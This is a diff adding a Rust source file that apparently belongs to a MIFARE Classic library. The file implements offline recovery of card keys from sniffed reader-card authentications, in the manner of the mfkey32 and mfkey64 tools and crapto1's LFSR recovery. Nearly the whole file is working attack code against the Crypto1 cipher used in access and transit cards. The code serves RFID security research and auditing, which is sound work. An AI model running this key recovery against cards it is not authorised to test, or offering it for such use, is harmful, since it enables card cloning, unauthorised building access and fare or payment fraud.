@@ -0,0 +1,215 @@
+use crate::crypto1::{be_bit, filter, parity32, prng_successor, Crypto1, LF_POLY_EVEN, LF_POLY_ODD};
+use crate::error::MifareError;
+
+// Offline recovery of MIFARE Classic keys from sniffed authentications, as
+// mfkey32 and mfkey64 do: 32 bits of keystream narrow the 48-bit LFSR down to
+// a few thousand candidates, which are rolled back to the key and checked
+// against more keystream.
+
+// One authentication as seen on the air: the card's nonce in the clear, the
+// reader's {nr}{ar} and, if captured, the card's {at}
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct AuthTrace {
+    pub uid: u32,
+    pub nt: u32,
+    pub nr_enc: u32,
+    pub ar_enc: u32,
+    pub at_enc: Option<u32>,
+}
+
+fn parse_word(word: &str) -> Result<u32, MifareError> {
+    u32::from_str_radix(word, 16).map_err(|_| MifareError::new(&format!("Invalid 32-bit hex value: {}", word)))
+}
+
+impl AuthTrace {
+    // Parse a line in the argument order of the mfkey tools, hex words
+    // separated by spaces: "uid nt {nr} {ar} [{at}]" (mfkey64) or
+    // "uid nt0 {nr0} {ar0} nt1 {nr1} {ar1}" (mfkey32v2)
+    pub fn parse_line(line: &str) -> Result<Vec<AuthTrace>, MifareError> {
+        let words = line.split_whitespace().map(parse_word).collect::<Result<Vec<u32>, _>>()?;
+        match words[..] {
+            [uid, nt, nr_enc, ar_enc] => Ok(vec![AuthTrace { uid, nt, nr_enc, ar_enc, at_enc: None }]),
+            [uid, nt, nr_enc, ar_enc, at_enc] => Ok(vec![AuthTrace { uid, nt, nr_enc, ar_enc, at_enc: Some(at_enc) }]),
+            [uid, nt0, nr0_enc, ar0_enc, nt1, nr1_enc, ar1_enc] => Ok(vec![
+                AuthTrace { uid, nt: nt0, nr_enc: nr0_enc, ar_enc: ar0_enc, at_enc: None },
+                AuthTrace { uid, nt: nt1, nr_enc: nr1_enc, ar_enc: ar1_enc, at_enc: None },
+            ]),
+            _ => Err(MifareError::new("Expected 4, 5 or 7 hex values: uid nt {nr} {ar} [{at}] or uid nt0 {nr0} {ar0} nt1 {nr1} {ar1}")),
+        }
+    }
+
+    // Keystream that encrypted ar
+    fn ks2(&self) -> u32 {
+        self.ar_enc ^ prng_successor(self.nt, 64)
+    }
+}
+
+// Keep the table entries whose filter output, with one more LFSR bit, can
+// give `bit`; entries that fit either way are split in two
+fn extend_table_simple(table: Vec<u32>, bit: u32) -> Vec<u32> {
+    let mut extended = Vec::with_capacity(table.len());
+    for item in table {
+        let item = item << 1;
+        let (f0, f1) = (filter(item), filter(item | 1));
+        if f0 != f1 {
+            extended.push(item | (f0 ^ bit));
+        } else if f0 == bit {
+            extended.push(item);
+            extended.push(item | 1);
+        }
+    }
+    extended
+}
+
+// Bits 24-31 of a table entry collect the parities of the entry under the
+// two feedback masks, so that odd and even halves can be matched later
+fn update_contribution(item: u32, mask1: u32, mask2: u32) -> u32 {
+    let mut p = item >> 25;
+    p = (p << 1) | parity32(item & mask1);
+    p = (p << 1) | parity32(item & mask2);
+    (p << 24) | (item & 0xFFFFFF)
+}
+
+fn extend_table(table: Vec<u32>, bit: u32, mask1: u32, mask2: u32, input: u32) -> Vec<u32> {
+    let input = input << 24;
+    let mut extended = Vec::with_capacity(table.len());
+    for item in table {
+        let item = item << 1;
+        let (f0, f1) = (filter(item), filter(item | 1));
+        if f0 != f1 {
+            extended.push(update_contribution(item | (f0 ^ bit), mask1, mask2) ^ input);
+        } else if f0 == bit {
+            extended.push(update_contribution(item, mask1, mask2) ^ input);
+            extended.push(update_contribution(item | 1, mask1, mask2) ^ input);
+        }
+    }
+    extended
+}
+
+// Entries of a table sorted by contribution, grouped by equal contribution
+fn buckets(table: &[u32]) -> Vec<&[u32]> {
+    table.chunk_by(|a, b| a >> 24 == b >> 24).collect()
+}
+
+fn recover(mut odd: Vec<u32>, mut oks: u32, mut even: Vec<u32>, mut eks: u32, mut rem: i32, mut input: u32, states: &mut Vec<Crypto1>) {
+    if rem == -1 {
+        for e in even {
+            let e = (e << 1) ^ parity32(e & LF_POLY_EVEN) ^ ((input & 4 != 0) as u32);
+            for &o in &odd {
+                states.push(Crypto1::from_halves(e ^ parity32(o & LF_POLY_ODD), o));
+            }
+        }
+        return;
+    }
+
+    // Up to four more bits of each half, stopping one past the last
+    for _ in 0..4 {
+        let more = rem != 0;
+        rem -= 1;
+        if !more {
+            break;
+        }
+
+        oks >>= 1;
+        eks >>= 1;
+        input >>= 2;
+        odd = extend_table(odd, oks & 1, (LF_POLY_EVEN << 1) | 1, LF_POLY_ODD << 1, 0);
+        if odd.is_empty() {
+            return;
+        }
+        even = extend_table(even, eks & 1, LF_POLY_ODD, (LF_POLY_EVEN << 1) | 1, input & 3);
+        if even.is_empty() {
+            return;
+        }
+    }
+
+    // Only halves with matching contributions can belong together
+    odd.sort_unstable_by_key(|item| item >> 24);
+    even.sort_unstable_by_key(|item| item >> 24);
+    let even_buckets = buckets(&even);
+    for odd_bucket in buckets(&odd) {
+        let contribution = odd_bucket[0] >> 24;
+        if let Some(even_bucket) = even_buckets.iter().find(|bucket| bucket[0] >> 24 == contribution) {
+            recover(odd_bucket.to_vec(), oks, even_bucket.to_vec(), eks, rem, input, states);
+        }
+    }
+}
+
+// Every LFSR state that produces the keystream word `ks2` while `input` is
+// fed in, as the state right after producing it (crapto1's lfsr_recovery32)
+pub fn lfsr_recovery32(ks2: u32, input: u32) -> Vec<Crypto1> {
+    // Keystream bits from odd and even positions come from different halves
+    let mut oks = 0;
+    let mut eks = 0;
+    for i in (1..32).rev().step_by(2) {
+        oks = (oks << 1) | be_bit(ks2, i);
+    }
+    for i in (0..31).rev().step_by(2) {
+        eks = (eks << 1) | be_bit(ks2, i);
+    }
+
+    let mut odd = Vec::new();
+    let mut even = Vec::new();
+    for i in (0..=1u32 << 20).rev() {
+        if filter(i) == oks & 1 {
+            odd.push(i);
+        }
+        if filter(i) == eks & 1 {
+            even.push(i);
+        }
+    }
+
+    for _ in 0..4 {
+        oks >>= 1;
+        eks >>= 1;
+        odd = extend_table_simple(odd, oks & 1);
+        even = extend_table_simple(even, eks & 1);
+    }
+
+    let input = ((input >> 16) & 0xFF) | (input << 16) | (input & 0xFF00);
+    let mut states = Vec::new();
+    recover(odd, oks, even, eks, 11, input << 1, &mut states);
+    states
+}
+
+// Key from a single authentication with {at} captured (mfkey64)
+pub fn mfkey64(trace: &AuthTrace) -> Option<[u8; 6]> {
+    let ks3 = trace.at_enc? ^ prng_successor(trace.nt, 96);
+    lfsr_recovery32(trace.ks2(), 0).into_iter().find_map(|mut state| {
+        let mut next = state;
+        if next.word(0, false) != ks3 {
+            return None;
+        }
+        state.rollback_word(0, false);
+        state.rollback_word(trace.nr_enc, true);
+        state.rollback_word(trace.uid ^ trace.nt, false);
+        Some(state.key())
+    })
+}
+
+// Key from two authentications with the same key, without {at} (mfkey32v2)
+pub fn mfkey32(first: &AuthTrace, second: &AuthTrace) -> Option<[u8; 6]> {
+    let ks2 = second.ks2();
+    lfsr_recovery32(first.ks2(), 0).into_iter().find_map(|mut state| {
+        state.rollback_word(0, false);
+        state.rollback_word(first.nr_enc, true);
+        state.rollback_word(first.uid ^ first.nt, false);
+        let key = state.key();
+
+        state.word(second.uid ^ second.nt, false);
+        state.word(second.nr_enc, true);
+        (state.word(0, false) == ks2).then_some(key)
+    })
+}
+
+// Key from whatever was captured: one trace with {at} suffices, otherwise
+// two traces of the same card are needed
+pub fn recover_key(traces: &[AuthTrace]) -> Option<[u8; 6]> {
+    if let Some(key) = traces.iter().filter(|trace| trace.at_enc.is_some()).find_map(mfkey64) {
+        return Some(key);
+    }
+    traces.iter().enumerate()
+        .flat_map(|(i, first)| traces[i + 1..].iter().map(move |second| (first, second)))
+        .filter(|(first, second)| first.uid == second.uid)
+        .find_map(|(first, second)| mfkey32(first, second))
+}